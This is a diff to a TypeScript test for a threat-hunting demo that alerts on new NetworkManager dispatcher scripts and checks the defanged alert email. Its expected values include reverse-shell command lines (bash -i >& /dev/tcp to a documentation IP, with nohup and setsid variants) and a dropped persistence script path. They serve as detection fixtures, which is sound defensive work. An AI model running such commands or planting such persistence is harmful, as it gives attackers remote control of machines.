@@ -23,18 +23,25 @@ describe('npm run demo', () => {
     assert.match(out, /DEMO — recorded Elasticsearch responses/);
     const [night1, night2] = out.split('=== night-2').map((part) => part ?? '');
     const messages = (text: string) => [...text.matchAll(/\[email\] Subject: (.*)/g)].map((m) => m[1]);
-    assert.deepEqual(messages(night1!), ['[nm-dispatcher-hunt] baseline initialised: 8 entries']);
-    assert.deepEqual(messages(night2!), ['[nm-dispatcher-hunt] 6 new findings (dispatcher-child-process, dispatcher-script-write)']);
-    const alerted = [...night2!.split('[slack]')[0]!.matchAll(/^ {2}(file\.path|process\.command_line): (.*)$/gm)].map((m) => m[2]).sort();
+    assert.deepEqual(messages(night1!), ['[nm-dispatcher-hunt] baseline initialised: 11 entries']);
+    assert.deepEqual(messages(night2!), ['[nm-dispatcher-hunt] 6 new findings, high: script-run, script-child, script-write']);
+    const email = night2!.split('[slack]')[0]!;
+    const alerted = [...email.matchAll(/^ {2}(script|masked_command_line|process\.executable): (.*)$/gm)].map((m) => `${m[1]}: ${m[2]}`).sort();
     // As the email shows them: defanged, so that no mail client links the attacker's host or script name.
     assert.deepEqual(alerted, [
-      '/bin/bash /etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh eth0 up',
-      '/etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
-      '/etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
-      "bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
-      "nohup setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
-      "setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
+      "masked_command_line: bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
+      "masked_command_line: nohup setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
+      "masked_command_line: setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
+      'process.executable: /usr/bin/bash',
+      'process.executable: /usr/bin/bash',
+      'process.executable: /usr/bin/nohup',
+      'process.executable: /usr/bin/sed',
+      'process.executable: /usr/bin/setsid',
+      'script: /etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
     ]);
+    assert.equal((email.match(/severity: high \(reverse shell over \/dev\/tcp/g) ?? []).length, 3, 'the reverse shell is high in each child that carries it');
+    assert.match(email, /why new: path never seen/);
+    assert.match(email, /content sha256|hashes: c0ffee00/, 'the dropped script\'s content is listed with its write');
     assert.doesNotMatch(night2!, /99-vpn-routes.*\n\s+why new/, 'nothing the fleet already had is alerted');
     assert.match(out, /night 2 alerted 6 new findings/);
     assert.equal((out.match(/ alerted {2}/g) ?? []).length, 6, 'six alerted entries in the baseline table');
@@ -59,7 +66,7 @@ describe('npm run demo', () => {
     const entries = JSON.parse(listed.stdout) as BaselineEntry[];
     assert.equal(entries.length, 6);
     // As the function renders it: its own table name and region in every command.
-    const report = newFindingsReport(entries.map((entry) => ({ hunt: huntById(entry.huntId)!, entry, novelty: 'path never seen', republished: false })));
+    const report = newFindingsReport(entries.map((entry) => ({ hunt: huntById(entry.huntId)!, entry, novelty: 'path never seen', republished: false, severity: 'medium' as const, indicators: [] })));
     const { email, https } = JSON.parse(renderPublishInput(report, { triage: { table: DEMO_TABLE, region: 'eu-west-1' } }).Message) as { email: string; https: string };
     const slack = (JSON.parse(https) as { content: { description: string; nextSteps: string[] } }).content;
     const decode = (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
